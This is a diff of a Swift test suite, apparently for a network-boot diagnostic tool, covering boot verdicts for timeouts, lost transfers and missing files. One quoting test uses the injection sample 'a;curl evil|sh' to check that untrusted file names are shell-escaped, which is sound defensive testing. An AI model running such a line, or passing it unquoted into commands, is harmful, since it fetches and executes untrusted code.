@@ -108,7 +108,21 @@ struct VerdictTests {
             try $0.told(at: 0)
             $0.refuse("snponly.efi", .accessDenied, at: 1)
         },
-        Case("nothing acknowledged", "PF-V011", look: 21) {
+        Case("nothing acknowledged, twice", "PF-V011", look: 49) {
+            try $0.told(at: 0)
+            for second in [20.0, 40] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
+        },
+        Case("nothing acknowledged, again and again", "PF-V011", look: 25) {
+            try $0.told(at: 0)
+            for second in [16.0, 20, 24] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
+        },
+        Case("the end of a size probe was lost, and the file came", nil, .underWay, look: 32) {
+            try $0.told(at: 0)
+            $0.start("snponly.efi", at: 2)
+            $0.end("snponly.efi", at: 3)
+            for second in [20.0, 21, 22] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
+        },
+        Case("the end of one size probe was lost", nil, .underWay) {
             try $0.told(at: 0)
             $0.end("snponly.efi", .timedOut, octets: 0, at: 20)
         },
@@ -121,9 +135,42 @@ struct VerdictTests {
             try $0.told(at: 0)
             $0.end("snponly.efi", octets: 400_000, again: 60, at: 2)
         },
-        Case("a loader that says nothing", "PF-V014", look: 60) {
+        Case("a loader that says nothing", "PF-V014", .underWay, look: 70) {
             try $0.told(at: 0)
             $0.end("snponly.efi", at: 2)
+        },
+        Case("a loader that waits for a port", nil, .underWay, look: 50) {
+            try $0.told(at: 0)
+            $0.end("snponly.efi", at: 2)
+        },
+        Case("a memory test that somebody ended", nil, .underWay, look: 309) {
+            try $0.told("memtest.efi", at: 0)
+            $0.end("memtest.efi", at: 2)
+            try $0.told("memtest.efi", at: 300)
+        },
+        Case("what need not exist, asked for by who has a kernel", nil, .booted) {
+            try $0.bootWhole(at: 0)
+            $0.get("/debian/images/product.img", status: 404, at: 12)
+            $0.get("/favicon.ico", isComplete: false, at: 14)
+            $0.get("/pool/initramfs-tools_0.142_all.deb", status: 404, at: 15)
+        },
+        Case("what need not exist, asked for before the kernel", nil, .booted) {
+            try $0.told(at: 0)
+            $0.end("snponly.efi", at: 1)
+            $0.refuse("autoexec.ipxe", .notFound, at: 2)
+            $0.get("/debian/vmlinuz", at: 4)
+        },
+        Case("an initrd that is not there", "PF-V009", look: 30) {
+            try $0.told(at: 0)
+            $0.end("snponly.efi", at: 1)
+            $0.get("/debian/vmlinuz", at: 4)
+            $0.get("/debian/initrd.img", status: 404, at: 5)
+            $0.get("/debian/images/product.img", status: 404, at: 6)
+        },
+        Case("HTTP Boot that asked for the size only", "PF-V008") {
+            try $0.offer("http://10.0.0.2/a.efi", .http, stage: .httpFirmware, at: 0)
+            $0.lease(at: 0.1)
+            $0.get("/a.efi", isHead: true, at: 1)
         },
         Case("a loader for other machines", "PF-V015", look: 10) {
             $0.circumstances.kind = { _ in .efi(LoaderKind.Machine(rawValue: 0xAA64), isSigned: false) }
@@ -135,7 +182,7 @@ struct VerdictTests {
             try $0.told("undionly.kpxe", at: 0)
             $0.end("undionly.kpxe", at: 2)
         },
-        Case("a GRUB that asks the DHCP server's next-server", "PF-V004", look: 60) {
+        Case("a GRUB that asks the DHCP server's next-server", "PF-V004", look: 70) {
             $0.circumstances.findings = [Story.router: [.nextServerIsOther]]
             try $0.told("grubx64.efi", at: 0)
             $0.end("grubx64.efi", at: 2)
@@ -153,7 +200,7 @@ struct VerdictTests {
             $0.get("/debian/initrd.img", octets: 300, isComplete: false, at: 6)
             $0.get("/debian/initrd.img", octets: 9000, at: 8)
         },
-        Case("a kernel that does not stay up", "PF-V017", look: 42) {
+        Case("a kernel that does not stay up", "PF-V017", look: 49) {
             try $0.bootWhole(at: 0)
             try $0.offer(at: 40)
         },
@@ -199,13 +246,63 @@ struct VerdictTests {
         var story = Story()
         try story.told(at: 0)
         story.start("snponly.efi", size: 90_000, at: 1)
-        func progress(_ octets: Int64, _ silence: Int64) -> FetchProgress {
+        func progress(_ octets: Int64, _ silence: Int64, isHTTP: Bool = false) -> FetchProgress {
             FetchProgress(
-                path: "snponly.efi", octets: octets, size: 90_000, rate: 0, retransmits: 3, silence: silence)
+                path: "snponly.efi", octets: octets, size: 90_000, rate: 0, retransmits: 3, silence: silence,
+                isHTTP: isHTTP)
         }
-        #expect(try story.standing(at: 60, progress: progress(500, 20_000)).verdict?.code == "PF-V012")
-        #expect(try story.standing(at: 60, progress: progress(0, 20_000)).verdict?.code == "PF-V011")
-        #expect(try story.standing(at: 60, progress: progress(500, 100)) == Standing(state: .underWay, verdict: nil))
+        #expect(try story.standing(at: 60, progress: progress(500, 31_000)).verdict?.code == "PF-V012")
+        #expect(try story.standing(at: 60, progress: progress(0, 31_000)).verdict?.code == "PF-V011")
+        for silence: Int64 in [100, 29_000] {
+            let standing = try story.standing(at: 60, progress: progress(500, silence))
+            #expect(standing == Standing(state: .underWay, verdict: nil))
+        }
+        // What was sent to the boot before.
+        #expect(try story.standing(at: 60, progress: progress(500, 61_000)).verdict == nil)
+        let paused = try #require(try story.standing(at: 60, progress: progress(500, 31_000, isHTTP: true)).verdict)
+        #expect(paused.code == "PF-V012" && !paused.fix.contains("tftp") && !paused.cause.contains("acknowledged"))
+        let waiting = try story.standing(at: 60, progress: progress(0, 31_000, isHTTP: true))
+        #expect(waiting.verdict?.code == "PF-V020" && waiting.state == .underWay)
+        // A size probe whose end was lost stands still for ever.
+        story.end("snponly.efi", at: 60)
+        #expect(try story.standing(at: 62, progress: progress(0, 40_000)).verdict == nil)
+        try story.bootWhole(at: 62)
+        let later = FetchProgress(
+            path: "/live.squashfs", octets: 5, size: 9, rate: 0, retransmits: 0, silence: 40_000, isHTTP: true)
+        #expect(try story.standing(at: 300, progress: later).verdict == nil)
+    }
+
+    @Test("the end of a transfer that was lost keeps no boot under way")
+    func lostEnd() throws {
+        var story = Story()
+        try story.told(at: 0)
+        story.end("snponly.efi", at: 1)
+        story.get("/debian/vmlinuz", at: 3)
+        story.start("debian/initrd.img", at: 4)
+        #expect(try story.standing(at: 100).state == .underWay)
+        #expect(try story.standing(at: 310).state == .booted)
+        story.table.forgetTransfers()
+        #expect(try story.standing(at: 100) == Standing(state: .booted, verdict: nil))
+        var other = Story()
+        try other.told(at: 0)
+        other.start("snponly.efi", at: 1)
+        other.table.forgetTransfers()
+        #expect(try other.standing(at: 100) == Standing(state: .underWay, verdict: nil))
+    }
+
+    @Test(
+        "a stranger's name for a file is no command",
+        arguments: [
+            ("a;curl evil|sh", " --file 'a;curl evil|sh'"), ("grub/x86_64-efi/a.lst", " --file grub/x86_64-efi/a.lst"),
+            ("it's", " --file 'it'\\''s'"), ("-x", ""), ("a\nb", ""), ("ä", ""),
+        ])
+    func quoting(name: String, shown: String) throws {
+        var story = Story()
+        try story.told(at: 0)
+        story.end("snponly.efi", at: 1)
+        story.refuse(name, .notFound, at: 3)
+        let verdict = try #require(try story.standing(at: 30).verdict)
+        #expect(verdict.fix == "put it there: pilotfish explain \(story.hardware)\(shown)")
     }
 
     @Test("what it asked before the service listened is no sign of a sleeping port")
@@ -222,9 +319,23 @@ struct VerdictTests {
         try story.told(at: 0)
         story.end("snponly.efi", at: 2)
         try story.offer(at: 20)
-        #expect(try story.standing(at: 21).verdict?.code == "PF-V014")
-        try story.bootWhole(at: 22)
-        #expect(try story.standing(at: 40).verdict == nil)
+        #expect(try story.standing(at: 21).verdict == nil)
+        let stuck = try story.standing(at: 29)
+        #expect(stuck.verdict?.code == "PF-V014" && stuck.state == .stuck)
+        // Whose boots end in the same way one after the other needs less.
+        story.lease(at: 29.9)
+        try story.offer(port: .bootService, at: 30)
+        story.end("snponly.efi", at: 30)
+        try story.offer(at: 40)
+        #expect(try story.standing(at: 41).verdict == nil)
+        #expect(try story.standing(at: 43).verdict?.code == "PF-V014")
+        let moving = FetchProgress(
+            path: "snponly.efi", octets: 5, size: 9, rate: 0, retransmits: 0, silence: 100, isHTTP: false)
+        #expect(try story.standing(at: 60, progress: moving) == Standing(state: .underWay, verdict: nil))
+        story.start("snponly.efi", at: 44)
+        #expect(try story.standing(at: 70) == Standing(state: .underWay, verdict: nil))
+        try story.bootWhole(at: 72)
+        #expect(try story.standing(at: 90).verdict == nil)
     }
 
     @Test("learned times make it patient, within bounds")
